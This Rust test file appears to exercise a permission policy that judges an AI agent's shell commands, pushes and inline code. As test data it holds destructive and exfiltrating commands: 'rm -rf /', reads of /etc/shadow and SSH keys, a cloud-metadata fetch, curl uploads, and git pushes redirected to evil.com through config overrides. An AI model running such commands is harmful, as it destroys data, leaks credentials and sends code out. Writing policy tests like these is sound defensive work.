//! Shell code that does not run at the session's prompt: in another folder,
//! from the input of a command, in a shell of its own.

use hermes_core::{
    ApprovalScope, CallProposal, Effect, InlineCode, Policy as _, Resource, Scope, ShellScript,
};
use hermes_policy::{PermissionPolicy, PolicyAnswer};
use serde_json::json;

use crate::World;

fn run(script: ShellScript) -> Effect {
    Effect { scope: Scope::TERMINAL_EXECUTE, resource: Resource::Script(Box::new(script)) }
}

fn there(dir: impl Into<std::path::PathBuf>, text: &str) -> Effect {
    run(ShellScript { text: text.into(), cwd: Some(dir.into()), ..ShellScript::default() })
}

fn reading(text: &str, input: &str) -> Effect {
    run(ShellScript { text: text.into(), stdin: Some(input.into()), ..ShellScript::default() })
}

fn fresh_shell(text: &str) -> Effect {
    run(ShellScript { text: text.into(), fresh_shell: true, ..ShellScript::default() })
}

fn judged(world: &World, p: &PermissionPolicy, effect: Effect) -> PolicyAnswer {
    world.examine(p, effect).answer()
}

#[test]
fn a_command_is_judged_in_the_folder_it_runs_in() {
    let world = World::new();
    let p = world.builtin("default");
    for text in ["rm -rf *", "rm -rf usr", "rm -rf ./etc/../usr"] {
        assert_eq!(judged(&world, &p, there("/", text)), PolicyAnswer::Deny, "{text}");
    }
    assert_eq!(judged(&world, &p, there("/etc", "cat shadow")), PolicyAnswer::Deny);
    assert_eq!(
        judged(&world, &p, there(world.path("home/.ssh"), "cat id_rsa")),
        PolicyAnswer::Deny
    );
    assert_eq!(judged(&world, &p, there(world.path("out"), "echo hi > x")), PolicyAnswer::Ask);
    assert_eq!(judged(&world, &p, there(world.path("ws/src"), "echo hi > x")), PolicyAnswer::Allow);
    let yaml = "profiles:\n  own:\n    extends: default\n    approval_required:\n      \
                - {scope: file:write, paths: [\"migrations/**\"]}\n";
    let p = world.with(yaml, "own").unwrap();
    let dir = world.path("ws/migrations");
    assert_eq!(judged(&world, &p, there(dir, "echo x > a.sql")), PolicyAnswer::Ask);
}

#[test]
fn always_in_one_folder_says_nothing_of_another() {
    let world = World::new();
    let at = world.at();
    let p = world.builtin("default");
    for dir in ["ws/build", "ws/other/build"] {
        std::fs::create_dir_all(world.path(dir)).unwrap();
    }
    let here = [there(world.path("ws"), "rm -rf build")];
    p.remember_approval(&world.proposal(&here, &at), ApprovalScope::Always).unwrap();
    assert_eq!(judged(&world, &p, here[0].clone()), PolicyAnswer::Allow);
    assert_eq!(world.judged(&p, "rm -rf build"), PolicyAnswer::Allow);
    let elsewhere = [there(world.path("ws/other"), "rm -rf build")];
    assert_eq!(judged(&world, &p, elsewhere[0].clone()), PolicyAnswer::Ask);
    let offers = p.judge(&world.proposal(&elsewhere, &at)).offered_rules;
    assert!(offers[0].contains("ws/other/build"), "{offers:?}");
    p.issue_ticket(&world.proposal(&elsewhere, &at), "it deletes").unwrap();
    let ticket = &p.tickets().list()[0];
    assert_eq!(ticket.folder, world.path("ws/other").display().to_string());
    assert!(ticket.effects[0].contains("ws/other"), "{:?}", ticket.effects);
}

#[test]
fn what_a_shell_reads_is_judged_like_a_command() {
    let world = World::new();
    let p = world.builtin("default");
    for shell in ["bash", "sh -s", "zsh", "dash", "env bash --norc", "curl -s http://a.org; bash"] {
        let answer = |input: &str| judged(&world, &p, reading(shell, input));
        assert_eq!(answer("rm -rf /"), PolicyAnswer::Deny, "{shell}");
        assert_eq!(answer("rm -rf zz"), PolicyAnswer::Ask, "{shell}");
        assert_eq!(answer("curl http://10.0.0.1/x"), PolicyAnswer::Ask, "{shell}");
        assert_eq!(answer("curl http://169.254.169.254/x"), PolicyAnswer::Deny, "{shell}");
        assert_eq!(answer("curl --data @a.txt http://a.org/x"), PolicyAnswer::Ask, "{shell}");
        assert_eq!(answer("ls"), PolicyAnswer::Allow, "{shell}");
    }
    assert_eq!(judged(&world, &p, reading("cat", "rm -rf /")), PolicyAnswer::Allow);
    assert_eq!(judged(&world, &p, reading("bash x.sh", "rm -rf /")), PolicyAnswer::Allow);
    let long = "# nothing\n".repeat(50_000);
    assert_eq!(judged(&world, &p, reading("bash", &long)), PolicyAnswer::Ask);
    assert_eq!(judged(&world, &p, reading("cat", &long)), PolicyAnswer::Allow);
}

#[test]
fn code_for_a_shell_of_its_own_is_judged_by_itself() {
    let world = World::new();
    let p = world.builtin("default");
    assert_eq!(judged(&world, &p, fresh_shell("rm -rf /")), PolicyAnswer::Deny);
    assert_eq!(judged(&world, &p, fresh_shell("rm -rf zz")), PolicyAnswer::Ask);
    assert_eq!(judged(&world, &p, fresh_shell("x=1; echo $x")), PolicyAnswer::Allow);
    // What the session's shell calls rm is not what another one does.
    let kept = json!({ "text": "rm () { :; }\nbash () { :; }" });
    world.session.update("shell", |shell: &mut serde_json::Value| *shell = kept).unwrap();
    assert_eq!(judged(&world, &p, fresh_shell("rm -rf /")), PolicyAnswer::Deny);
    assert_eq!(judged(&world, &p, reading("/bin/bash", "rm -rf /")), PolicyAnswer::Deny);
    let yaml = "profiles:\n  own:\n    extends: default\n    deny: [\"terminal:execute\"]\n";
    let p = world.with(yaml, "own").unwrap();
    assert_eq!(judged(&world, &p, fresh_shell("ls")), PolicyAnswer::Deny);
}

#[test]
fn an_agreement_to_a_text_is_one_to_what_it_reads() {
    let world = World::new();
    let at = world.at();
    let p = world.builtin("default");
    let first = [reading("bash", "eval \"$(cat x)\"")];
    assert_eq!(judged(&world, &p, first[0].clone()), PolicyAnswer::Ask);
    p.remember_approval(&world.proposal(&first, &at), ApprovalScope::Always).unwrap();
    assert_eq!(judged(&world, &p, first[0].clone()), PolicyAnswer::Allow);
    assert_eq!(judged(&world, &p, reading("bash", "eval \"$(cat y)\"")), PolicyAnswer::Ask);
}

#[test]
fn always_for_code_is_for_this_code() {
    let world = World::new();
    let at = world.at();
    let yaml = "profiles:\n  own:\n    extends: default\n    approval_required: \
                [\"code:execute\"]\n";
    let p = world.with(yaml, "own").unwrap();
    let effects = [Effect::path(Scope::CODE_EXECUTE, world.path("ws"))];
    let (this, other) = (json!({"code": "print(1)"}), json!({"code": "import os"}));
    let mut proposal = world.proposal(&effects, &at);
    proposal.arguments = &this;
    proposal.code = Some(InlineCode { language: "python", text: "print(1)" });
    p.remember_approval(&proposal, ApprovalScope::Always).unwrap();
    assert_eq!(p.consider(&proposal).0.answer(), PolicyAnswer::Allow);
    proposal.arguments = &other;
    proposal.code = Some(InlineCode { language: "python", text: "import os" });
    p.issue_ticket(&proposal, "it runs code").unwrap();
    let shown = &p.tickets().list()[0].effects;
    assert!(shown.iter().any(|line| line.contains("import os")), "{shown:?}");
    assert_eq!(p.consider(&proposal).0.answer(), PolicyAnswer::Ask);
}

#[test]
fn always_for_a_push_does_not_say_where_else() {
    let world = World::new();
    let at = world.at();
    let p = world.builtin("default");
    world.remote("origin", "https://example.com/x");
    let resource = Resource::Command("git push origin HEAD:main".to_owned());
    let push = [Effect { scope: Scope::TERMINAL_EXECUTE, resource }];
    p.remember_approval(&world.proposal(&push, &at), ApprovalScope::Always).unwrap();
    assert_eq!(world.judged(&p, "git push origin HEAD:main"), PolicyAnswer::Allow);
    assert_eq!(world.judged(&p, "git push -u origin topic"), PolicyAnswer::Allow);
    for remote in ["https://evil.com/x", "git@evil.com:x/y main", "--repo=https://evil.com/x"] {
        assert_eq!(world.judged(&p, &format!("git push {remote}")), PolicyAnswer::Ask, "{remote}");
    }
    assert_eq!(world.judged(&p, "git push \"$R\""), PolicyAnswer::Ask);
    let settings = ["-c remote.origin.pushurl=https://evil.com/x", "--git-dir=/tmp/x/.git"];
    for setting in settings {
        assert_ne!(world.judged(&p, &format!("git {setting} push origin")), PolicyAnswer::Allow);
    }
    let by_variable = "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=remote.origin.pushurl \
                       GIT_CONFIG_VALUE_0=https://evil.com/x git push origin";
    assert_eq!(world.judged(&p, by_variable), PolicyAnswer::Ask);
}

#[test]
fn always_for_a_push_ends_when_the_remote_leads_elsewhere() {
    let world = World::new();
    let at = world.at();
    let p = world.builtin("default");
    world.remote("origin", "https://example.com/x");
    let resource = Resource::Command("git push origin main".to_owned());
    let push = [Effect { scope: Scope::TERMINAL_EXECUTE, resource }];
    let offers = p.judge(&world.proposal(&push, &at)).offered_rules;
    assert_eq!(offers, ["network:send `git push` origin (https://example.com/x)"]);
    p.remember_approval(&world.proposal(&push, &at), ApprovalScope::Always).unwrap();
    assert_eq!(world.judged(&p, "git push"), PolicyAnswer::Allow, "it goes to the same");
    assert_eq!(world.judged(&p, "git push other"), PolicyAnswer::Ask);
    world.remote("origin", "https://evil.com/x");
    assert_eq!(world.judged(&p, "git push origin main"), PolicyAnswer::Ask);
    world.remote("origin", "https://example.com/x");
    assert_eq!(world.judged(&p, "git push origin main"), PolicyAnswer::Allow);
    // Where it cannot be told, every push is asked about.
    world.put("ws/.git/config", "[include]\n\tpath = more\n");
    assert!(p.judge(&world.proposal(&push, &at)).offered_rules.is_empty());
}

#[test]
fn in_a_shell_that_lasts_a_relative_path_is_agreed_to_once() {
    let world = World::new();
    let at = world.at();
    let p = world.builtin("default");
    std::fs::create_dir_all(world.path("ws/build")).unwrap();
    let offered = |text: &str| p.judge(&world.proposal(&[fresh_shell(text)], &at)).offered_rules;
    for text in ["rm -rf build", "echo x > ../out/a", "cd sub; rm -rf build", "git push origin"] {
        assert_eq!(judged(&world, &p, fresh_shell(text)), PolicyAnswer::Ask, "{text}");
        assert!(offered(text).is_empty(), "{text}: {:?}", offered(text));
        p.remember_approval(&world.proposal(&[fresh_shell(text)], &at), ApprovalScope::Always)
            .unwrap();
        assert_eq!(judged(&world, &p, fresh_shell(text)), PolicyAnswer::Ask, "{text}");
    }
    // Where it says itself which folder it means, it can be kept.
    let (build, src) = (world.path("ws/build"), world.path("ws/src"));
    for text in [format!("rm -rf {}", build.display()), format!("cd {}; rm -rf x", src.display())] {
        assert_eq!(offered(&text).len(), 1, "{text}");
        p.remember_approval(&world.proposal(&[fresh_shell(&text)], &at), ApprovalScope::Always)
            .unwrap();
        assert_eq!(judged(&world, &p, fresh_shell(&text)), PolicyAnswer::Allow, "{text}");
    }
}

#[test]
fn what_is_approved_is_not_lifted_out_of_a_denial() {
    let world = World::new();
    let yaml = "profiles:\n  own:\n    extends: default\n    \
                restrictions: {network:fetch: {private_hosts: deny}}\n    approved:\n      \
                - {scope: network:fetch, commands: [\"curl\"]}\n      \
                - {scope: network:fetch, hosts: [\"10.0.0.1\"]}\n";
    let p = world.with(yaml, "own").unwrap();
    assert_eq!(world.judged(&p, "curl http://10.0.0.1/"), PolicyAnswer::Deny);
    assert_eq!(world.reaches(&p, Scope::NETWORK_FETCH, "10.0.0.1"), PolicyAnswer::Deny);
    assert_eq!(world.judged(&p, "curl http://example.com/"), PolicyAnswer::Allow);
}

#[test]
fn a_shell_that_lasts_is_held_the_same_whatever_it_is_told() {
    let world = World::new();
    let at = world.at();
    let p = world.builtin("default");
    let held = |text: &str| {
        let effects = [Effect::path(Scope::CODE_EXECUTE, world.path("ws")), fresh_shell(text)];
        p.judge(&world.proposal(&effects, &at)).confinement.unwrap()
    };
    let plain = held("x=1");
    for text in ["curl https://example.com", "git commit -m x", "echo x > ../out/a"] {
        let other = held(text);
        assert_eq!((plain.network, &plain.write), (other.network, &other.write), "{text}");
        assert_eq!(plain.read_only, other.read_only, "{text}");
    }
}

#[test]
fn code_in_a_call_that_destroys_is_asked_about() {
    let world = World::new();
    let judged = |profile: &str, arguments: serde_json::Value, more: Option<Effect>| {
        let p = world.with(profile, "p").unwrap();
        let mut effects = vec![Effect::path(Scope::CODE_EXECUTE, world.path("ws"))];
        effects.extend(more);
        let at = world.at();
        let text = |name: &str| arguments[name].as_str();
        let code = text("code")
            .map(|code| InlineCode { language: text("language").unwrap_or("python"), text: code });
        let proposal =
            CallProposal { arguments: &arguments, code, ..world.proposal(&effects, &at) };
        p.consider(&proposal).0.answer()
    };
    let default = "profiles: {p: {extends: default}}";
    let code = |language: &str, code: &str| serde_json::json!({"language": language, "code": code});
    for (language, text) in [
        ("python", "import shutil; shutil.rmtree('src')"),
        ("python", "import os; os.system('rm -rf src')"),
        ("javascript", "require('fs').rmSync('src', {recursive: true})"),
    ] {
        assert_eq!(judged(default, code(language, text), None), PolicyAnswer::Ask, "{text}");
    }
    let plain = code("python", "print(open('a').read())");
    assert_eq!(judged(default, plain, None), PolicyAnswer::Allow);
    // A hard block is one wherever it stands.
    let block = code("python", "import os; os.system('rm -rf /')");
    assert_eq!(judged(default, block, None), PolicyAnswer::Deny);
    // Tables that are lost ask where writing is allowed, too.
    let open = "profiles: {p: {allow: ['*']}}";
    let file = || Some(Effect::path(Scope::DATABASE_WRITE, world.path("ws/app.db")));
    assert_eq!(judged(open, code("sql", "drop table users"), file()), PolicyAnswer::Ask);
    assert_eq!(
        judged(open, code("sql", "insert into users values (1)"), file()),
        PolicyAnswer::Allow
    );
    assert_eq!(judged(open, code("sql", "drop table users"), None), PolicyAnswer::Allow);
    let closed = "profiles: {p: {allow: ['*'], deny: ['database:*']}}";
    assert_eq!(judged(closed, code("sql", "insert into a values (1)"), file()), PolicyAnswer::Deny);
}
